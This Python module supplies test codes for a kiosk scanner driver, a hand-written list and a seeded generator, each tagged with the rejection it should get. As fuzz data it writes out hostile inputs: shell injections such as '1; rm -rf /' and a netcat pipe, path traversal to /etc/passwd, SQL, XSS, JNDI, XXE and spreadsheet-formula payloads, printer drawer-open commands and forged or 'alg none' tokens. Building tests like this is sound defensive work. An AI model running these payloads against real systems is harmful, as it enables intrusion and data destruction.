"""Codes that somebody might hold under a scanner to see what happens: a list by hand, and a seeded generator.

Everybody and everything in them is invented. `expected` names every outcome that is right: a reason of the
driver's or of `kiosk.scanned`, or `number` where it is harmless text that may stand in a field.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from dataclasses import dataclass

SEED = 20261128
_UNSEEN = frozenset({"control-characters", "hidden-characters", "not-text"})
_REFUSED = frozenset({"no-number", "address"})
_NOTHING = _UNSEEN | _REFUSED


@dataclass(frozen=True, slots=True)
class Hostile:
    """One code; `aim` is what the scanner says of its symbol."""

    name: str
    body: bytes
    expected: frozenset[str]
    aim: bytes = b"]Q1"


def _words(name: str, expected: str, *texts: str | bytes) -> Iterator[Hostile]:
    for number, text in enumerate(texts, start=1):
        body = text if isinstance(text, bytes) else text.encode()
        yield Hostile(f"{name}-{number}", body, frozenset(expected.split("|")))


def by_hand() -> Iterator[Hostile]:
    """One of each kind that somebody thought of."""
    yield from _words(
        "printer",
        "control-characters",
        b"\x1b@",  # ESC/POS: initialise
        b"\x1dV\x00",  # cut
        b"\x1bp\x00\x19\xfa",  # open the drawer
        b"\x10\x14\x01\x00\x05",
        b"12\x1b!\x30\x1bE\x01",
        b"\x1c&\x1b\x64\xff",
    )
    yield from _words(
        "console",
        "control-characters",
        b"\x1b[2J\x1b[H",
        b"\x1b]0;owned\x07",
        b"\x1b]52;c;cm0gLXJmIC8=\x07",
        b"\x9b31mred",
        b"12\x0834",
        b"\x1bc",
        b"\x7f\x7f\x7f",
        b"a\x00b",
        b"\x00",
        b"1\r\nSet-Cookie: a=b",
        b"1\tADMIN",
        b"\x04\x03\x1a",
        b"1\x1d10ABC",  # GS1 with its separator
        b"\x02STX\x03ETX",
        "1\u20282".encode(),
        "1\u00852".encode(),
    )
    yield from _words(
        "keystrokes",
        "control-characters",
        b"\x16M\r",  # setting codes of scanner families
        b"\x02\x03\x16\x54\x0d",
        b"\x01T\x04",
    )
    yield from _words(
        "address",
        "address",
        "http://127.0.0.1:8600/",
        "https://id.example.evil.test/device",
        "https://id.example@evil.test/",
        "javascript:alert(1)",
        "JaVaScRiPt:alert(document.cookie)",
        "data:text/html,<script>alert(1)</script>",
        "file:///etc/passwd",
        "chrome://settings",
        "view-source:http://a.test",
        "weixin://dl/business/?t=x",
        "alipays://platformapi/startapp?appId=2",
        "wxp://f2f0abc",
        "tel:110",
        "sms:10086?body=x",
        "mailto:a@b.test?subject=x",
        "WIFI:T:WPA;S:free;P:12345678;;",
        "BEGIN:VCARD",
        "MATMSG:TO:a@b.test;SUB:x;;",
        "otpauth://totp/a?secret=JBSWY3DPEHPK3PXP",
        "bitcoin:1BoatSLRHtKNngkdXEeobR76b53LETtpyT",
        "geo:39.1,117.2",
        "intent://scan/#Intent;scheme=zxing;end",
        "ms-msdt:/id PCWDiagnostic",
        "blob:https://a.test/1",
        "about:blank",
        "ldap://a.test/x",
        "C:\\Windows\\System32\\calc.exe",
    )
    yield from _words(
        "login",
        "login-code",
        "https://id.example/device?user_code=AB-CD",
        "HTTPS://ID.EXAMPLE/device",
        "https://id.example:443/x",
    )
    yield from _words(
        "markup",
        "no-number",
        "<script>alert(1)</script>",
        '"><img src=x onerror=alert(1)>',
        "<svg/onload=alert(1)>",
        "&lt;b&gt;",
        "{{7*7}}",
        "{% include 'x' %}",
        "${jndi:ldap://a.test/x}",
        "#{7*7}",
        "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>",
        "*{color:red}",
        "]]>",
    )
    yield from _words(
        "shell",
        "no-number",
        "$(reboot)",
        "`reboot`",
        "1; rm -rf /",
        "1 && shutdown -h now",
        "| nc a.test 1",
        "-rf",
        "--help",
        "-",
        "../../../../etc/passwd",
        "..",
        "/etc/passwd",
        "....//....//etc",
        "a/../../b",
        "%2e%2e%2f",
        "~root",
        "\\\\server\\share",
        "1>file",
        "{a,b}",
        "!!",
    )
    yield from _words(
        "sql",
        "no-number",
        "' OR '1'='1",
        "1'; DROP TABLE cases;--",
        "1 UNION SELECT * FROM people",
        '" OR ""="',
        "admin'--",
        "1) OR (1=1",
        "';EXEC xp_cmdshell('dir')",
        "*)(uid=*))(|(uid=*",
        '{"$gt": ""}',
        "1/**/OR/**/1=1",
    )
    yield from _words(
        "format",
        "no-number",
        "%s%s%s%n",
        "%x.%x.%x",
        "{0.__class__}",
        "{}",
        "%00",
        "%(a)s",
        "=cmd|' /C calc'!A0",
        "+1+cmd",
        "@SUM(A1)",
    )
    yield from _words(
        "alike",
        "no-number",
        "ТJ-12O1",
        "１２０１",
        "١٢٣٤",
        "Ⅻ",
        "①②③",
        "TJ\u20101201",  # a hyphen that is none
        "TJ\u22121201",
        "12 01",
        "12\u00a001",
        "12\u300001",
        "津A12345",
        "é",
        "𝟏𝟐𝟎𝟏",
        "e\u0301",
        "a" + "\u0300" * 200,
        "🀄" * 40,
    )
    yield from _words(
        "unseen",
        "hidden-characters",
        "12\u200b01",
        "\u202e1021",
        "\u2066\u2067\u2069",
        "12\u00ad01",
        "\ufeff1201",
        "12\u206001",
        "1\U000e00312",  # a tag character
        "1\ue0002",
        "1\uffff2",
        "1\U0010ffff2",
        "1\u03782",  # not assigned
        "1\u115f2",
        "1\u28002",
        "\u3164",
        "1\u034f2",
        "1\ufff92",
    )
    yield from _words("blank", "not-text", "", " ", "\u3000", "   \u00a0 ")
    yield from _words(
        "bytes",
        "|".join(_NOTHING),
        b"\xc0\xaf\xc0\xaf",  # overlong
        b"\xe0\x80\xaf",
        b"\xf0\x80\x80\xaf",
        b"\xc1\x81",
        b"\xed\xa0\x80",  # a lone surrogate
        b"\xed\xbf\xbf\xed\xa0\x80",
        b"\xf4\x90\x80\x80",  # past the last character
        b"\xf8\x88\x80\x80\x80",
        b"\xff\xfe1\x002\x00",  # UTF-16
        b"\xfe\xff\x001\x002",
        b"12\xe6\xb4",  # cut short
        b"\x81\x30\x81\x30",  # GB18030: the first of four bytes
        b"\x84\x31\xa4\x39",  # U+FFFF
        b"\x84\x31\xa5\x30",  # behind it: not assigned
        b"\x90\x30\x81\x30",  # U+10000
        b"\xe3\x32\x9a\x35",  # U+10FFFF
        b"\xe3\x32\x9a\x36",  # behind it
        b"\xfe\x39\xfe\x39",
        b"\x83\x36\xc7\x39",  # a surrogate's place
        b"12\x81\x30",
        b"\x80\x80",
        b"\xff" * 64,
        b"\xa0" * 8,
    )
    yield from _words("long", "no-number", "7" * 65, "A" * 65, "7" * 7089, "1-" * 200, "é" * 3000)
    yield from _words("too-long", "too-long", "7" * 7090, b"\xff" * 7100, "7" * 20000)
    yield from _words(
        "harmless", "number", "7", "1" * 64, "CON", "NULL", "null", "0x00", "1e9", "admin", "undefined"
    )
    for name, body, aim, expected in (
        ("eci-unknown", b"\\000004abc", b"]Q2", "other-encoding"),
        ("eci-twice", b"\\000026a\\000003b", b"]Q2", "other-encoding"),
        ("eci-half", b"\\00002", b"]Q2", "other-encoding"),
        ("eci-late", b"12\\000026", b"]Q4", "other-encoding"),
        ("eci-matrix", b"\\999999x", b"]d4", "other-encoding"),
        ("eci-lies", b"\\000026\xff\xfe", b"]Q2", "not-text"),
        ("eci-ascii-lies", b"\\000027\xe9", b"]Q2", "not-text"),
        ("eci-backslash", b"\\\\000026", b"]Q2", "no-number"),
        ("gs1", b"\x1d01069012345", b"]Q3", "control-characters"),
        ("symbology-maxicode", b"1201", b"]U0", "other-symbology"),
        ("symbology-other", b"1201", b"]X0", "other-symbology"),
        ("symbology-none", b"1201", b"]]]", "no-symbology"),
        ("symbology-junk", b"1201", b"abc", "no-symbology"),
        ("symbology-high", b"1201", b"]\xd1\x31", "no-symbology"),
    ):
        yield Hostile(name, body, frozenset({expected}), aim)


def generated(own: str, other: str) -> Iterator[Hostile]:
    """Many of a kind. `own` is a slip's code by this terminal's key, `other` one by another terminal's."""
    chance = random.Random(SEED)
    for make, count in (
        (_control, 14),
        (_hidden, 14),
        (_alike, 12),
        (_scheme, 12),
        (_noise, 16),
        (_broken_utf8, 12),
    ):
        for number in range(count):
            body, expected = make(chance)
            yield Hostile(f"made{make.__name__}-{number}", body, frozenset(expected))
    yield from _codes(chance, own, other)


def _number(chance: random.Random) -> str:
    return "".join(chance.choice("0123456789ABCDEFGHJKMNPQRSTVWXYZ") for _ in range(chance.randint(6, 20)))


def _within(chance: random.Random, what: str) -> str:
    text = _number(chance)
    at = chance.randint(0, len(text))
    return text[:at] + what + text[at:]


def _control(chance: random.Random) -> tuple[bytes, set[str]]:
    what = chr(chance.choice([*range(32), *range(0x7F, 0xA0)]))
    return _within(chance, what).encode(), {"control-characters"}


def _hidden(chance: random.Random) -> tuple[bytes, set[str]]:
    what = chr(
        chance.choice([*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200B, 0x200D, 0xFEFF, 0xE001])
    )
    return _within(chance, what).encode(), {"hidden-characters"}


def _alike(chance: random.Random) -> tuple[bytes, set[str]]:
    what = chr(
        chance.choice([0x0410, 0x0415, 0x041E, 0x0391, 0xFF10, 0xFF21, 0x0660, 0x0967, 0x2010, 0x2044])
    )
    return _within(chance, what).encode(), {"no-number"}


def _scheme(chance: random.Random) -> tuple[bytes, set[str]]:
    scheme = "".join(chance.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(chance.randint(2, 12)))
    return f"{scheme}:{chance.choice(['//', '', '/'])}{_number(chance)}".encode(), {"address"}


def _noise(chance: random.Random) -> tuple[bytes, set[str]]:
    body = bytes([0xFF, *(chance.randrange(256) for _ in range(chance.randint(1, 80)))])
    return body, set(_NOTHING)


def _broken_utf8(chance: random.Random) -> tuple[bytes, set[str]]:
    body = bytearray("津门市民办事大厅".encode())
    body[chance.randrange(len(body))] ^= 1 << chance.randrange(6, 8)
    return bytes(body), set(_NOTHING)


def _codes(chance: random.Random, own: str, other: str) -> Iterator[Hostile]:
    """Papers' codes that were tampered with, cut, split over two symbols, or made by another terminal."""
    head, payload, signature = own.split(".")
    forged = frozenset({"forged", "other-version"})
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"

    def turned(part: str) -> str:
        at = chance.randrange(len(part) - 2)
        return part[:at] + chance.choice(alphabet.replace(part[at], "")) + part[at + 1 :]

    def code(name: str, text: str, expected: frozenset[str]) -> Hostile:
        return Hostile(name, text.encode(), expected)

    for number in range(8):
        yield code(f"payload-turned-{number}", f"{head}.{turned(payload)}.{signature}", forged)
        yield code(f"signature-turned-{number}", f"{head}.{payload}.{turned(signature)}", forged)
    for number in range(6):
        cut = own[: chance.randrange(len(head) + len(payload) + 2, len(own) - 2)]
        yield code(f"cut-{number}", cut, frozenset({"forged", "no-number"}))
    half = len(own) // 2
    for number, part in enumerate((own[:half], own[half:])):  # structured append, not put together
        yield code(f"part-{number}", part, frozenset({"no-number"}))
    yield code("other-terminal", other, frozenset({"other-terminal"}))
    other_head, _, other_signature = other.split(".")
    yield code("signature-of-another", f"{head}.{payload}.{other_signature}", forged)
    yield code("head-of-another", f"{other_head}.{payload}.{signature}", frozenset({"other-terminal"}))
    yield code("no-signature", f"{head}.{payload}.", frozenset({"forged", "no-number"}))
    none = "eyJhbGciOiJub25lIn0"  # {"alg":"none"}
    yield code("alg-none", f"{none}.{payload}.", frozenset({"no-number"}))
    yield code("alg-none-signed", f"{none}.{payload}.{signature}", frozenset({"no-number"}))
    yield code("twice", own + own, frozenset({"no-number"}))
    yield code("glued", own + "1201", frozenset({"forged", "no-number"}))


def all_of(own: str, other: str) -> list[Hostile]:
    """All, in a fixed order."""
    return [*by_hand(), *generated(own, other)]
